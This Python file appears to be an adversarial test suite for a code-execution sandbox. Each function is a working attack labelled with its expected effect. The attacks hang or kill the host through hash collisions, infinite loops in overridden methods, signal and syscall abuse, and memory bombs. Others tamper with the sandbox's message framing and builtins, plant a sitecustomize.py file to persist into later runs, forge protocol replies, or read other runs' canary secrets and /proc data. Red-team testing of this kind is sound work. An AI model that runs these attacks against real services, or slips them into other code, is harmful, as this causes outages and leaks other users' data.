"""Inside the box: its loop, its values and its end are the attacker's own. ctx as in the other files."""

def _line():
    import os, stat
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): return fd
        except OSError: pass
    raise OSError("no socket found")

def _answer(body):
    import os
    os.write(_line(), len(body).to_bytes(4, "big") + body); os._exit(0)

def numbers_with_one_hash(ctx):
    """A dict of them compares each with every other one, in whoever builds it."""
    pairs = b",".join(b'[%d,0]' % (n * (2**61 - 1)) for n in range(40000))
    _answer(b'{"id":1,"answers":[{"value":{"$":"dict","v":[%s]}}]}' % pairs)     # success: hang

def decimals_with_one_hash(ctx):
    pairs = b",".join(b'[{"$":"decimal","v":"%d"},0]' % (n * (2**61 - 1)) for n in range(20000))
    _answer(b'{"id":1,"answers":[{"value":{"$":"dict","v":[%s]}}]}' % pairs)     # success: hang

def digits_without_end(ctx):
    _answer(b'{"id":1,"answers":[{"value":{"$":"float","v":"' + b"9" * 3900000 + b'"}}]}')       # success: hang

def numbers_that_are_none(ctx):
    _answer(b'{"id":1,"answers":[{"value":[NaN,Infinity,-Infinity,1e400,-0.0]}]}')       # success: hostdead

def honest_numbers_that_are_none(ctx):
    return {"a": [float("nan"), float("inf"), -float("inf")], "b": {float("nan"): 1}}        # success: hostdead

def half_characters(ctx):
    return {"\ud800": ["\udfff\x00", {"\udc00" * 1000: "\ud83d"}], "__proto__": {"constructor": 1}}      # success: hostdead

def many_tiny_dicts(ctx):
    return [{} for _ in range(1300000)]          # success: hang

def many_names(ctx):
    return {str(n): n for n in range(2000000)}   # success: bigresult

def list_that_holds_itself(ctx):
    a = []; a.append(a); return a                # success: hostdead

def dict_that_never_ends(ctx):
    class Endless(dict):
        def items(self):
            while True: yield "a", 1
    return Endless(a=1)                          # success: hang

def number_that_never_answers(ctx):
    class Number(int):
        def __int__(self):
            while True: pass
    return Number(1)                             # success: hang

def hash_that_never_answers(ctx):
    class Key(str):
        def __hash__(self): return 1
        def __eq__(self, other):
            while True: pass
    return {Key("a"): 1, Key("b"): 2}            # success: hang

def error_that_never_tells(ctx):
    class Endless(Exception):
        def __str__(self):
            while True: pass
    raise Endless                                # success: hang

def error_with_a_huge_name(ctx):
    raise type("X" * (30 << 20), (Exception,), {})()         # success: bigresult

def errors_in_a_ring(ctx):
    a, b = ValueError("a"), ValueError("b"); a.__cause__ = b; b.__cause__ = a; a.__context__ = b
    raise a                                      # success: hang

def finalizer_at_the_answer(ctx):
    class Late:
        def __del__(self):
            while True: pass
    return [1, Late().__class__.__name__]        # success: hang

def garbage_that_fights_back(ctx):
    import gc
    class Ring:
        def __del__(self): Ring().me = Ring()
    a = Ring(); a.me = a; del a
    while True: gc.collect()                     # success: hang

def every_signal_ignored(ctx):
    import signal
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True: pass                             # success: hang

def own_process_stopped(ctx):
    import ctypes, os, threading
    ctypes.CDLL(None).syscall(234, os.getpid(), threading.get_native_id(), 19)       # success: hang

def own_process_aborted(ctx):
    import os
    os.abort()                                   # success: hostdead

def alarm_every_millisecond(ctx):
    import signal
    signal.signal(signal.SIGALRM, lambda *_: None); signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    while True: pass                             # success: hang

def loop_of_the_box_replaced(ctx):
    import gc, types
    for one in gc.get_objects():
        if isinstance(one, types.ModuleType) and one.__name__.endswith("box.frames"):
            one.packed = lambda message: (30 << 20).to_bytes(4, "big") + b'"' + b"x" * (30 << 20) + b'"'
    return 1                                     # success: bigresult

def reader_of_the_box_replaced(ctx):
    import gc, types
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType) and one.__name__ in ("read", "_exactly") and "frames" in one.__module__:
            one.__code__ = (lambda *args: __import__("time").sleep(1e6)).__code__
    return 1                                     # success: hostdead

def builtins_poisoned(ctx):
    import builtins, json, sys
    builtins.len = builtins.isinstance = builtins.type = lambda *args: 7; json.dumps = json.loads = None; sys.modules.clear()
    return 1                                     # success: hostdead

def imports_caught(ctx):
    import sys
    class Finder:
        def find_spec(self, name, path=None, target=None):
            while True: pass
    sys.meta_path.insert(0, Finder()); import colorsys; return 1     # success: hang

def path_poisoned_for_the_next_run(ctx):
    import os, sys
    for folder in ["", *sys.path, "/packages", "/project", "/project/__pycache__", os.path.expanduser("~")]:
        try: open(os.path.join(folder or ".", "sitecustomize.py"), "w").close(); return "PLANTED in " + folder
        except OSError as error: last = error
    raise last                                   # success: leak:PLANTED

def tracer_that_never_returns(ctx):
    import sys, threading
    def trace(*_):
        while True: pass
    sys.setprofile(trace); threading.setprofile(trace); return len([1])      # success: hang

def threads_that_hold_everything(ctx):
    import threading, time
    try:
        while True: threading.Thread(target=lambda: [x for x in iter(int, 1)], daemon=True).start()
    except (RuntimeError, MemoryError): return "started"     # success: hang

def line_replaced_by_a_file(ctx):
    import os
    os.dup2(os.open(os.devnull, os.O_RDWR), _line()); return "quiet"     # success: hostdead

def every_file_closed(ctx):
    import os
    os.closerange(0, 1024); return "closed"      # success: hostdead

def answers_to_questions_of_tomorrow(ctx):
    """Replies to the next questions, before they are asked."""
    import os
    fd = _line()
    for number in range(1, 50):
        body = b'{"id":%d,"answers":[{"value":2}]}' % number; os.write(fd, len(body).to_bytes(4, "big") + body)
    return "sent"                                # success: hostdead

def answer_byte_by_byte(ctx):
    import os, time
    body = b'{"id":1,"answers":[{"value":1}]}'; fd = _line()
    for piece in len(body).to_bytes(4, "big") + body: os.write(fd, bytes([piece])); time.sleep(0.5)
    time.sleep(1e6)                              # success: hang

def output_without_end_from_a_thread(ctx):
    import sys, threading
    def flood():
        while True: sys.stdout.write("x" * 100000)
    threading.Thread(target=flood, daemon=True).start()
    return "started"                             # success: bigoutput

def output_in_control_characters(ctx):
    print("\x1b]0;owned\x07\x1b[2J\x00\ud800" * 20000)       # success: bigoutput

def secret_arguments_of_others(ctx):
    import gc
    return " ".join(str(one)[:10000] for one in gc.get_objects() if isinstance(one, (dict, list, tuple)) and "CANARY_" in str(one)[:10000])[:100000]      # success: memcanary

def numbers_for_the_clock_of_others(ctx):
    """How busy others are, from what the kernel tells everybody."""
    got = []
    for name in ("/proc/stat", "/proc/loadavg", "/proc/meminfo", "/proc/net/tcp", "/proc/net/unix", "/proc/interrupts", "/proc/schedstat", "/proc/pressure/cpu"):
        try: got.append(name if open(name).read() else "")
        except OSError: pass
    return "TOLD " + " ".join(got) if got else "none"        # success: leak:TOLD

def expression_that_backtracks_in_the_worker(ctx):
    return {"regex": "(a+)+$", "text": "a" * 5000 + "b"}     # success: hang

def power_tower(ctx):
    return 9 ** (9 ** 9)                         # success: hang

def format_bomb(ctx):
    return "%0999999999d" % 1 + f"{1:>{10**9}}"  # success: mem

def sleep_in_pieces(ctx):
    import time
    while True:
        try: time.sleep(1)
        except BaseException: pass               # success: hang
